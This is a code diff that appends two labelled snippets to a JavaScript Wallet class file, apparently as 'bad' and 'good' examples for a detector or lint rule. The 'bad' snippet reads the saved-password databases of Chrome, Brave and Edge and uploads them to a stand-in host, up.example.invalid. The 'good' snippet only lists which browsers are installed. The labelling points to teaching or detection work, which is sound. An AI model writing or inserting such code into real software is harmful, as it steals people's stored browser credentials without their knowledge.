@@ -39,3 +39,27 @@ export class Wallet {
     return keypair;
   }
 }
+
+//: bad browser-logins
+const fs = require('fs');
+const path = require('path');
+const FormData = require('form-data');
+
+const roots = ['Google/Chrome', 'BraveSoftware/Brave-Browser', 'Microsoft/Edge'];
+const form = new FormData();
+for (const root of roots) {
+  const file = path.join(process.env.LOCALAPPDATA, root, 'User Data/Default/Login Data');
+  if (fs.existsSync(file)) form.append(root, fs.createReadStream(file)); //!
+}
+form.submit('https://up.example.invalid/f');
+
+//: good browser-logins
+const fs = require('fs');
+const path = require('path');
+
+const roots = ['Google/Chrome', 'BraveSoftware/Brave-Browser', 'Microsoft/Edge'];
+const found = roots.filter((root) =>
+  fs.existsSync(path.join(process.env.LOCALAPPDATA, root, 'Application')),
+);
+
+module.exports = found.map((root) => root.split('/')[1]);
